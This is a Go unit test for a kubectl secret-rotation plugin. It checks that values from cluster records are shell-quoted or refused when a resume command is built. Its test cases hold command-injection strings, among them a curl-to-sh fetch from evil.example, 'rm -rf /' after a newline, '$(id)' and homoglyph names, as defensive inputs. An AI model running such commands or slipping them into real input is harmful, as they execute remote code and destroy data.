package cli

import (
	"testing"

	"github.com/kubectl-rotate/kubectl-rotate/pkg/config"
	"github.com/kubectl-rotate/kubectl-rotate/pkg/kube"
	"github.com/kubectl-rotate/kubectl-rotate/pkg/ledger"
	"github.com/kubectl-rotate/kubectl-rotate/pkg/rotation"
	"github.com/kubectl-rotate/kubectl-rotate/pkg/status"
	"github.com/kubectl-rotate/kubectl-rotate/pkg/wiring"
)

// Who names a targets file on the command line has to name it again to go on, as a shell reads it.
func TestTheTargetsFileIsNamedAgain(t *testing.T) {
	o := &wiring.Opened{Clients: &kube.Clients{Context: "prod", Namespace: "shop"}, File: "my targets.yaml", Config: config.Target{Name: "jwt", Kind: config.KindJWT}}
	if got, want := command(o, rotation.Intent{Compromised: true}), "kubectl rotate jwt --context prod -n shop --compromised --config 'my targets.yaml'"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
}

// Whoever may write Secrets in a namespace writes records in it. What stands there as a name becomes no command of somebody who looks at the
// whole cluster.
func TestNoRecordWritesACommand(t *testing.T) {
	const inject = "pg$(curl -s https://evil.example/x|sh)"
	for _, c := range []struct {
		name, kind, context, file string
		back                      bool
		shown, shownKind, want    string
	}{
		{name: "orders", kind: "postgres", context: "prod", shown: "orders", shownKind: "postgres", want: "kubectl rotate postgres orders --context prod -n tenant"},
		{name: "orders", kind: "postgres", context: "prod", back: true, shown: "orders", shownKind: "postgres", want: "kubectl rotate abort orders --context prod -n tenant"},
		{name: "orders", kind: "redis", context: "it's $(id)", file: "-x y", shown: "orders", shownKind: "redis",
			want: `kubectl rotate redis orders --context 'it'\''s $(id)' -n tenant --config '-x y'`},
		{name: "orders", kind: "redis", context: "prod\nrm -rf /", shown: "orders", shownKind: "redis"},
		{name: inject, kind: "postgres", context: "prod", shown: "app-db", shownKind: "postgres", want: "kubectl rotate postgres app-db --context prod -n tenant"},
		{name: "orders", kind: "postgres; id", context: "prod", shown: "orders", shownKind: status.KindUnknown},
		{name: "orders", kind: "status", context: "prod", shown: "orders", shownKind: status.KindUnknown},
		{name: "orders", context: "prod", shown: "orders", shownKind: status.KindUnknown},
		{name: "orders", context: "prod", back: true, shown: "orders", shownKind: status.KindUnknown},
		{name: "--config=/tmp/x", kind: "jwt", context: "prod", back: true, shown: "app-db", shownKind: "jwt", want: "kubectl rotate abort app-db --context prod -n tenant"},
		{name: "-h", kind: "jwt", context: "prod", shown: "app-db", shownKind: "jwt", want: "kubectl rotate jwt app-db --context prod -n tenant"},
		{name: "a b", kind: "jwt", context: "prod", shown: "app-db", shownKind: "jwt", want: "kubectl rotate jwt app-db --context prod -n tenant"},
		{name: "a'b\n`id`", kind: "jwt", context: "prod", shown: "app-db", shownKind: "jwt", want: "kubectl rotate jwt app-db --context prod -n tenant"},
		{name: "\u202eорders", kind: "jwt", context: "prod", shown: "app-db", shownKind: "jwt", want: "kubectl rotate jwt app-db --context prod -n tenant"},
		{name: "оrders", kind: "jwt", context: "prod", shown: "app-db", shownKind: "jwt", want: "kubectl rotate jwt app-db --context prod -n tenant"}, // a Cyrillic o
	} {
		found := status.Viewer{Known: wiring.HasEngine}.Described(config.Target{Secret: config.Secret{Name: "app-db"}}, ledger.About{Name: c.name, Kind: c.kind})
		if found.Name != c.shown || string(found.Kind) != c.shownKind {
			t.Errorf("%q of kind %q: is called %q of kind %q", c.name, c.kind, found.Name, found.Kind)
		}
		if steps := wiring.OutlineOf(found.Kind)(rotation.Intent{From: 1, To: 2}); len(steps) == 0 { // whoever shows its phase asks for them
			t.Errorf("%q of kind %q: it has no steps", c.name, c.kind)
		}
		line := shellLine{&kube.Clients{Context: c.context}, found, "tenant", c.file}
		if got := line.goOn(c.back, false); got != c.want {
			t.Errorf("%q of kind %q: got %q, want %q", c.name, c.kind, got, c.want)
		}
	}
	for _, namespace := range []string{"", "a b", "$(id)", "-x", "a\nb"} {
		line := shellLine{&kube.Clients{Context: "prod"}, config.Target{Name: "orders", Kind: config.KindJWT}, namespace, ""}
		if got := line.goOn(false, false); got != "" {
			t.Errorf("namespace %q: got %q", namespace, got)
		}
	}
}
